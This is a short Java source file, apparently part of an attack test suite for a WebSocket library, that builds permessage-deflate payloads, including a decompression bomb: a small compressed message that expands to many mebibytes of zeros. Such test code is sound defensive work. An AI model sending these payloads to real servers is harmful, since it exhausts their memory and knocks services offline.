package dev.duplex.attacks;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.zip.Deflater;

/** Compressed payloads, small ones that become large. */
final class Bomb {
    private Bomb() {}

    /** A message's compressed payload, as RFC 7692 §7.2.1 wants it. */
    static byte[] deflate(byte[] message) {
        Deflater deflater = new Deflater(9, true);
        deflater.setInput(message);
        byte[] out = new byte[message.length + message.length / 100 + 64];
        int length = deflater.deflate(out, 0, out.length, Deflater.SYNC_FLUSH);
        deflater.end();
        return Arrays.copyOf(out, length - 4);
    }

    /** The payload of so many zeros, about a thousandth of them. */
    static byte[] zeros(int mebibytes) {
        Deflater deflater = new Deflater(9, true);
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        byte[] zeros = new byte[1 << 20];
        byte[] out = new byte[64 * 1024];
        for (int i = 0; i < mebibytes; i++) {
            deflater.setInput(zeros);
            int flush = i == mebibytes - 1 ? Deflater.SYNC_FLUSH : Deflater.NO_FLUSH;
            for (int n = deflater.deflate(out, 0, out.length, flush); n > 0; n = deflater.deflate(out, 0, out.length, flush)) {
                all.write(out, 0, n);
                if (n < out.length) {
                    break;
                }
            }
        }
        deflater.end();
        return Arrays.copyOf(all.toByteArray(), all.size() - 4);
    }
}
